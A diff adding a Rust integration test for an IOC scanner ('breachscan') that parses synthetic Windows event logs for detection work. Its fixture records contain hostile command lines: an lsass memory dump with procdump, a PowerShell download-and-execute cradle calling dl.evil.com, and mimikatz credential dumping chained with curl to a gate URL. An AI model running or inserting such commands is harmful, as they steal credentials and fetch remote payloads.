@@ -1,0 +1,465 @@
+//! Event logs through the real binary, on logs this test writes itself:
+//! every IOC type is found in the fields where such values live, each hit
+//! names its field and record; logs are recognised by content whatever their
+//! name; damaged chunks and records are listed while the rest is scanned.
+
+mod support;
+
+use std::collections::BTreeSet;
+use std::fs;
+use std::path::Path;
+
+use serde_json::{Value, json};
+use support::evtx::{Event, EventId, Payload, write_evtx};
+use support::*;
+
+const SYSMON: &str = "Microsoft-Windows-Sysmon";
+const SYSMON_CH: &str = "Microsoft-Windows-Sysmon/Operational";
+const SHA256_A: &str = "1111111111111111111111111111111111111111111111111111111111111111";
+const SHA1_A: &str = "2222222222222222222222222222222222222222";
+const MD5_A: &str = "33333333333333333333333333333333";
+const MD5_B: &str = "44444444444444444444444444444444";
+const SHA256_C: &str = "5555555555555555555555555555555555555555555555555555555555555555";
+
+/// Records with planted values (ids 1–20) among benign filler (ids 100+)
+/// spread over several chunks.
+fn events() -> Vec<Event> {
+    let mut v = Vec::new();
+    v.push(Event::new(
+        1,
+        SYSMON,
+        1,
+        SYSMON_CH,
+        &[
+            ("Image", r"C:\Tools\procdump64.exe"),
+            (
+                "Hashes",
+                &format!(
+                    "SHA1={},MD5={},SHA256={},IMPHASH=ABCDEF",
+                    SHA1_A.to_uppercase(),
+                    MD5_A,
+                    SHA256_A.to_uppercase()
+                ),
+            ),
+            (
+                "CommandLine",
+                r#"cmd.exe /c "procdump64.exe -ma lsass.exe out.dmp""#,
+            ),
+            ("ParentImage", r"C:\Windows\System32\cmd.exe"),
+        ],
+    ));
+    let mut partial = Event::new(
+        2,
+        SYSMON,
+        1,
+        SYSMON_CH,
+        &[
+            ("Image", r"C:\Users\bob\AppData\Local\Temp\x.exe"),
+            ("Hashes", &format!("MD5={MD5_B},IMPHASH=00FF")),
+        ],
+    );
+    partial.event_id = EventId::Text("1".into());
+    v.push(partial);
+    v.push(Event::new(
+        3,
+        SYSMON,
+        3,
+        SYSMON_CH,
+        &[
+            ("Image", r"C:\Windows\System32\rundll32.exe"),
+            ("SourceIp", "10.0.0.5"),
+            ("DestinationIp", "203.0.113.50"),
+            ("DestinationHostname", "beacon.c2.example.net"),
+        ],
+    ));
+    v.push(Event::new(
+        4,
+        SYSMON,
+        3,
+        SYSMON_CH,
+        &[("DestinationIp", "::ffff:198.51.100.7")],
+    ));
+    v.push(Event::new(
+        5,
+        SYSMON,
+        3,
+        SYSMON_CH,
+        &[("DestinationIp", "2001:db8::dead")],
+    ));
+    for i in 100..400 {
+        v.push(Event::new(
+            i,
+            SYSMON,
+            1,
+            SYSMON_CH,
+            &[
+                ("Image", r"C:\Windows\System32\svchost.exe"),
+                ("Hashes", &format!("SHA256={:064X}", i)),
+                (
+                    "CommandLine",
+                    r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
+                ),
+                ("ParentImage", r"C:\Windows\System32\services.exe"),
+            ],
+        ));
+    }
+    v.push(Event::new(
+        6,
+        SYSMON,
+        22,
+        SYSMON_CH,
+        &[("QueryName", "a.b.evil.com")],
+    ));
+    v.push(Event::new(
+        7,
+        SYSMON,
+        22,
+        SYSMON_CH,
+        &[("QueryName", "notevil.com")],
+    ));
+    v.push(Event::new(
+        8,
+        SYSMON,
+        13,
+        SYSMON_CH,
+        &[
+            (
+                "TargetObject",
+                r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater",
+            ),
+            ("Details", r"C:\Users\Public\upd.exe"),
+        ],
+    ));
+    v.push(Event::new(
+        9,
+        "Microsoft-Windows-Security-Auditing",
+        4657,
+        "Security",
+        &[
+            (
+                "ObjectName",
+                r"\REGISTRY\MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
+            ),
+            ("ObjectValueName", "Updater"),
+        ],
+    ));
+    v.push(Event::new(10, "Microsoft-Windows-PowerShell", 4104, "Microsoft-Windows-PowerShell/Operational", &[
+        ("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('https://dl.evil.com/stage2/payload.ps1')"),
+    ]));
+    v.push(Event::new(
+        11,
+        "Service Control Manager",
+        7045,
+        "System",
+        &[
+            ("ServiceName", "PSEXESVC"),
+            ("ImagePath", r#""C:\Windows\Temp\PSEXESVC.exe" -svc"#),
+        ],
+    ));
+    v.push(Event::new(
+        12,
+        "Microsoft-Windows-Security-Auditing",
+        4624,
+        "Security",
+        &[("TargetUserName", "admin"), ("IpAddress", "192.168.56.101")],
+    ));
+    v.push(Event::new(
+        13,
+        "Microsoft-Windows-Security-Auditing",
+        4624,
+        "Security",
+        &[("IpAddress", "-")],
+    ));
+    let mut user_data = Event::new(14, "Microsoft-Windows-Eventlog", 1105, "Security", &[]);
+    user_data.payload = Payload::UserData(
+        "AutoBackup".into(),
+        vec![
+            ("Channel".into(), "Security".into()),
+            (
+                "BackupPath".into(),
+                r"C:\Windows\Temp\sec-backup.evtx".into(),
+            ),
+        ],
+    );
+    v.push(user_data);
+    v.push(Event::new(
+        15,
+        "CustomAV",
+        1116,
+        "Application",
+        &[("FileHash", SHA256_C)],
+    ));
+    v.push(Event::new(
+        16,
+        SYSMON,
+        1,
+        SYSMON_CH,
+        &[
+            ("Image", r"C:\t\m.exe"),
+            (
+                "CommandLine",
+                r"C:\t\m.exe sekurlsa::logonpasswords & curl http://10.9.9.9/gate.php?id=1",
+            ),
+        ],
+    ));
+    v
+}
+
+fn bundle(dir: &Path) -> std::path::PathBuf {
+    let ad = |id: &str| json!({"id": id, "name": format!("Alert {id}"), "severity": "High"});
+    let ioc = |id: &str, t: &str, v: &str, f: &str| json!({"id": id, "alertDefinitionId": "ad", "type": t, "value": v, "detectionFunction": f});
+    let b = json!({
+        "alertDefinitions": [ad("ad")],
+        "iocs": [
+            ioc("sha256", "Sha256", SHA256_A, "Equals"),
+            ioc("sha1", "Sha1", SHA1_A, "Equals"),
+            ioc("md5-partial", "Md5", MD5_B, "Equals"),
+            ioc("sha256-plain", "Sha256", SHA256_C, "Equals"),
+            ioc("tool", "FileName", "procdump64.exe", "Equals"),
+            ioc("psexesvc", "FileName", "psexesvc.exe", "Equals"),
+            ioc("temp-path", "FilePath", r"C:\Users\bob\AppData\Local\Temp\", "StartWith"),
+            ioc("backup", "FilePath", r"\Temp\sec-backup.evtx", "EndWith"),
+            ioc("c2-range", "IpAddress", "203.0.113.0/24", "Equals"),
+            ioc("mapped", "IpAddress", "198.51.100.7", "Equals"),
+            ioc("v6", "IpAddress", "2001:db8::/32", "Equals"),
+            ioc("lan", "IpAddress", "192.168.56.0/24", "Equals"),
+            ioc("c2-domain", "DomainName", "c2.example.net", "Equals"),
+            ioc("evil-domain", "DomainName", "evil.com", "Equals"),
+            ioc("url", "Url", "HTTPS://DL.EVIL.COM/stage2/", "StartWith"),
+            ioc("gate", "Url", "/gate.php", "Contains"),
+            ioc("run-key", "RegistryKey", r"HKEY_LOCAL_MACHINE\Software\Microsoft\Windows\CurrentVersion\Run", "StartWith"),
+            ioc("mimi", "FileName", "sekurlsa::", "Contains"),
+            ioc("never", "DomainName", "never-seen.example", "Equals"),
+        ]
+    });
+    let p = dir.join("bundle.json");
+    fs::write(&p, serde_json::to_vec_pretty(&b).unwrap()).unwrap();
+    p
+}
+
+/// (ioc, record id, field) expected for one copy of the log.
+fn expected() -> BTreeSet<(String, u64, String)> {
+    [
+        ("sha256", 1, "Hashes"),
+        ("sha1", 1, "Hashes"),
+        ("tool", 1, "Image"),
+        ("tool", 1, "CommandLine"),
+        ("md5-partial", 2, "Hashes"),
+        ("temp-path", 2, "Image"),
+        ("c2-range", 3, "DestinationIp"),
+        ("c2-domain", 3, "DestinationHostname"),
+        ("mapped", 4, "DestinationIp"),
+        ("v6", 5, "DestinationIp"),
+        ("evil-domain", 6, "QueryName"),
+        ("run-key", 8, "TargetObject"),
+        ("run-key", 9, "ObjectName"),
+        ("url", 10, "ScriptBlockText"),
+        ("evil-domain", 10, "ScriptBlockText"),
+        ("psexesvc", 11, "ImagePath"),
+        ("lan", 12, "IpAddress"),
+        ("backup", 14, "BackupPath"),
+        ("sha256-plain", 15, "FileHash"),
+        ("mimi", 16, "CommandLine"),
+        ("gate", 16, "CommandLine"),
+    ]
+    .iter()
+    .map(|(i, r, f)| (i.to_string(), *r, f.to_string()))
+    .collect()
+}
+
+fn record_hits(report: &Value, path: &str) -> BTreeSet<(String, u64, String)> {
+    report["alerts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .flat_map(|a| a["evidence"].as_array().unwrap())
+        .filter(|e| e["kind"] == "record" && e["location"]["path"] == path)
+        .map(|e| {
+            (
+                e["ioc"]["id"].as_str().unwrap().to_string(),
+                e["record"]["recordId"].as_u64().unwrap(),
+                e["field"].as_str().unwrap().to_string(),
+            )
+        })
+        .collect()
+}
+
+fn scan(bundle: &Path, target: &Path, out: &Path) -> (Run, Value) {
+    let run = breachscan(&[
+        "scan",
+        "-b",
+        bundle.to_str().unwrap(),
+        "-o",
+        out.to_str().unwrap(),
+        target.to_str().unwrap(),
+    ]);
+    let report = read_report(out);
+    (run, report)
+}
+
+#[test]
+fn every_ioc_type_is_found_in_records_with_its_field() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("ev");
+    let log = write_evtx(&events());
+    assert!(
+        log.len() > 4096 + 2 * 65536,
+        "the fixture should span several chunks"
+    );
+    let logs = root.join("Windows/System32/winevt/Logs");
+    fs::create_dir_all(&logs).unwrap();
+    fs::write(
+        logs.join("Microsoft-Windows-Sysmon%4Operational.evtx"),
+        &log,
+    )
+    .unwrap();
+    // Recognised by content, not by name.
+    fs::create_dir_all(root.join("exfil")).unwrap();
+    fs::write(root.join("exfil/notes.dat"), &log).unwrap();
+    let bundle = bundle(dir.path());
+    let (run, report) = scan(&bundle, &root, &dir.path().join("r.json"));
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    assert_eq!(report["errors"], json!([]));
+    let records = events().len() as u64;
+    assert_eq!(report["sources"][0]["recordsScanned"], 2 * records);
+    let want = expected();
+    assert_eq!(
+        record_hits(
+            &report,
+            "/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx"
+        ),
+        want
+    );
+    assert_eq!(record_hits(&report, "/exfil/notes.dat"), want);
+    assert_eq!(report["summary"]["evidence"], 2 * want.len());
+}
+
+#[test]
+fn record_evidence_carries_the_record_and_its_log() {
+    let dir = tempfile::tempdir().unwrap();
+    let log_path = dir.path().join("Security.evtx");
+    let log = write_evtx(&events());
+    fs::write(&log_path, &log).unwrap();
+    let bundle = bundle(dir.path());
+    let (run, report) = scan(&bundle, &log_path, &dir.path().join("r.json"));
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    assert_eq!(report["sources"][0]["kind"], "file");
+    let ev: Vec<&Value> = report["alerts"][0]["evidence"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|e| e["ioc"]["id"] == "md5-partial")
+        .collect();
+    assert_eq!(ev.len(), 1);
+    let e = ev[0];
+    assert_eq!(e["kind"], "record");
+    assert_eq!(e["matchedValue"], MD5_B);
+    let r = &e["record"];
+    assert_eq!(r["recordId"], 2);
+    // Stored as text "1", reported as a number.
+    assert_eq!(r["eventId"], 1);
+    assert_eq!(r["channel"], SYSMON_CH);
+    assert_eq!(r["provider"], SYSMON);
+    assert_eq!(r["computer"], "WS01.corp.example");
+    assert_eq!(r["user"], "S-1-5-18");
+    assert_eq!(r["timestamp"], "2023-11-14T22:13:22Z");
+    assert_eq!(r["recovered"], false);
+    assert_eq!(r["data"]["Image"], r"C:\Users\bob\AppData\Local\Temp\x.exe");
+    assert_eq!(e["location"]["recordId"], 2);
+    let display = e["location"]["display"].as_str().unwrap();
+    assert!(display.ends_with("Security.evtx › record 2"), "{display}");
+    // The log's own facts, with all three digests.
+    assert_eq!(e["file"]["sha256"], sha256_hex(&log));
+    assert_eq!(e["file"]["md5"], md5_hex(&log));
+    assert_eq!(e["file"]["size"], log.len());
+
+    let ud = report["alerts"][0]["evidence"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["ioc"]["id"] == "backup")
+        .unwrap();
+    assert_eq!(
+        ud["record"]["data"]["BackupPath"],
+        r"C:\Windows\Temp\sec-backup.evtx"
+    );
+}
+
+/// Offset of the record with `id` in the file.
+fn record_offset(log: &[u8], id: u64) -> usize {
+    (0..log.len() - 24)
+        .find(|&i| log[i..i + 4] == [0x2a, 0x2a, 0, 0] && log[i + 8..i + 16] == id.to_le_bytes())
+        .expect("record present")
+}
+
+#[test]
+fn damaged_chunks_and_records_are_listed_and_the_rest_is_scanned() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut log = write_evtx(&events());
+    let chunks = (log.len() - 4096) / 65536;
+    assert!(chunks >= 3);
+    // Chunk 1 (filler only) loses its magic; record 3 gets an invalid token
+    // where its BinXML starts.
+    log[4096 + 65536..4096 + 65536 + 8].copy_from_slice(b"XXXXXXXX");
+    let r3 = record_offset(&log, 3);
+    log[r3 + 24 + 4] = 0xEE;
+    let path = dir.path().join("dirty.evtx");
+    fs::write(&path, &log).unwrap();
+    let bundle = bundle(dir.path());
+    let (run, report) = scan(&bundle, &path, &dir.path().join("r.json"));
+    assert_eq!(run.code, 1, "{}", run.stderr);
+
+    let errors = report["errors"].as_array().unwrap();
+    let kinds: Vec<(&str, &str)> = errors
+        .iter()
+        .map(|e| (e["kind"].as_str().unwrap(), e["message"].as_str().unwrap()))
+        .collect();
+    assert_eq!(kinds.len(), 2, "{kinds:?}");
+    assert!(
+        kinds
+            .iter()
+            .any(|(k, m)| *k == "corruptChunk" && m.starts_with("chunk 1:")),
+        "{kinds:?}"
+    );
+    assert!(
+        kinds
+            .iter()
+            .any(|(k, m)| *k == "corruptRecord" && m.starts_with("record 3 in chunk 0")),
+        "{kinds:?}"
+    );
+    assert_eq!(report["scan"]["complete"], false);
+
+    // Everything outside the damage is still found.
+    let mut want = expected();
+    want.retain(|(_, r, _)| *r != 3);
+    assert_eq!(record_hits(&report, "/dirty.evtx"), want);
+}
+
+#[test]
+fn a_bundle_without_hash_iocs_still_parses_logs() {
+    // With nothing to hash, only a file's first bytes are read — enough to
+    // recognise a log.
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("renamed.bin");
+    fs::write(&path, write_evtx(&events())).unwrap();
+    let b = dir.path().join("b.json");
+    fs::write(
+        &b,
+        json!({
+            "alertDefinitions": [{"id": 1, "name": "n", "severity": "Low"}],
+            "iocs": [{"id": "d", "alertDefinitionId": 1, "type": "DomainName", "value": "EVIL.com"}]
+        })
+        .to_string(),
+    )
+    .unwrap();
+    let (run, report) = scan(&b, &path, &dir.path().join("r.json"));
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    let mut hits: Vec<u64> = report["alerts"][0]["evidence"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["record"]["recordId"].as_u64().unwrap())
+        .collect();
+    hits.sort();
+    assert_eq!(hits, vec![6, 10]);
+}
